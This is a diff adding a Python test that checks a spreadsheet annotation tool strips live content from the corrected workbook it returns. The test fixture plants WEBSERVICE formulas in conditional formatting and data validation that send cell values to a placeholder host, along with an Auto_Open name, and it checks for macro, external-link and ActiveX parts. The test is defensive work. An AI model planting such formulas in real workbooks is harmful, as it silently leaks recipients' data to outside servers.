@@ -606,3 +606,38 @@ def test_annotating_is_fast_enough_for_a_national_month(tmp_path):
         annotate_submission(data, ".xlsx", findings, tmp_path / f"{i}.xlsx")
     per_hundred = (dt.datetime.now() - start).total_seconds() * 5
     assert per_hundred < 10, f"{per_hundred:.1f} s per 100 files"
+
+
+def test_the_copy_sent_back_carries_no_live_content(tmp_path):
+    from openpyxl.formatting.rule import FormulaRule
+    from openpyxl.workbook.defined_name import DefinedName
+    from openpyxl.worksheet.datavalidation import DataValidation
+
+    book = openpyxl.load_workbook(io.BytesIO(form_workbook()))
+    ws = book["Báo cáo"]
+    ws.conditional_formatting.add(
+        "D9:D20", FormulaRule(formula=['ISNUMBER(WEBSERVICE("http://x.invalid/?"&D9))'])
+    )
+    validation = DataValidation(type="custom", formula1='=WEBSERVICE("http://x.invalid")')
+    validation.add("D10")
+    ws.add_data_validation(validation)
+    book.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text="'Báo cáo'!$A$1")
+    ws["F1"] = "=SUM(D9:D12)"
+    buffer = io.BytesIO()
+    book.save(buffer)
+    data = buffer.getvalue()
+    w = where("2026-10/15/gia-phu.xlsx", data, unit=commune("15"))
+
+    out = annotate_submission(data, ".xlsx", [negative(w)], tmp_path / "x.sua-loi.xlsx")
+
+    with zipfile.ZipFile(out) as archive:
+        names = archive.namelist()
+        xml = b"".join(archive.read(n) for n in names if n.endswith(".xml"))
+    for part in ("vbaProject", "externalLink", "connections", "embeddings", "activeX"):
+        assert not any(part in name for name in names), part
+    for element in (b"<f>", b"<f ", b"conditionalFormatting", b"dataValidation", b"WEBSERVICE"):
+        assert element not in xml, element
+    # Only the names Excel itself keeps for our own list's filter remain.
+    names_defined = re.findall(rb'<definedName name="([^"]+)"', xml)
+    assert all(name.startswith(b"_xlnm.") for name in names_defined), names_defined
+    assert marks(out)  # the finding's mark is still there
